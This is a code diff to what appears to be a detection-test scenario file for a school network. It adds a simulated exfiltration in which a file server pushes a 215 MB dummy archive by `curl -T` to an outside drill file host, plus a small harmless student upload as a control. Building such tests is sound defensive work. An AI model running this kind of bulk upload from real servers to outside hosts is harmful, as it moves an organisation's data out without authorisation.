@@ -1,10 +1,13 @@
 # SPDX-License-Identifier: Apache-2.0
 """What is allowed on the Internet, but not here or not now."""
 
+import os
 import time
 
 from acts import fetch, greet_gateway, visit
-from scenario import HARMLESS, MISUSE, Scenario
+from outside import OTHER
+from scenario import ATTACK, CONVERSATION, HARMLESS, MISUSE, Scenario
+from web import serve_nginx
 
 
 def unapproved_vendor(school):
@@ -31,7 +34,43 @@ def exam_work(school):
         visit(school, who, "classroom.example")
 
 
+FILE_HOST = "up.filehosting.drill.test"
+TAKES_FILES = """server {{ listen {address}:443 ssl; ssl_certificate {certificate};
+ ssl_certificate_key {key}; client_max_body_size 0; root {folder}/taken; dav_methods PUT; }}
+"""
+
+
+def upload(school, who, size, *options):
+    """Send a file of some size to a file host outside, which takes it by WebDAV."""
+    far, authority, host = school["outside"], school.outside.authority, school[who]
+    far.run("mkdir", "-p", far.path("taken"))
+    with open(host.path("papers.zip"), "wb") as file:
+        file.truncate(size)
+    text = TAKES_FILES.format(address=OTHER[FILE_HOST], key=authority.key,
+                              certificate=authority.certify(FILE_HOST), folder=far.folder)
+    with serve_nginx(far, text) as server:
+        server.wait_port(443)
+        greet_gateway(school, who)
+        host.run("curl", "-sS", "-T", host.path("papers.zip"), "--cacert",
+                 authority.certificate, *options, f"https://{FILE_HOST}/", timeout=120)
+    os.unlink(far.path("taken/papers.zip"))
+
+
+def large_upload(school):
+    """The file server's data leave, 20 MB a second."""
+    upload(school, "srv-files", 215_000_000, "--limit-rate", "20M")
+
+
+def homework_upload(school):
+    upload(school, "student-02", 90_000)
+
+
 SCENARIOS = [
+    Scenario("large-upload", ATTACK,
+             "The file server sends 215 MB to a file host outside.", large_upload,
+             rules=["exfil.server-upload"], within=CONVERSATION, stored=False),
+    Scenario("homework-upload", HARMLESS,
+             "A student's device sends 90 kB to the same file host.", homework_upload),
     Scenario("unapproved-vendor", MISUSE,
              "Five student devices use a learning app that is not in the vendor "
              "register.", unapproved_vendor, rules=["privacy.unapproved-vendor"]),
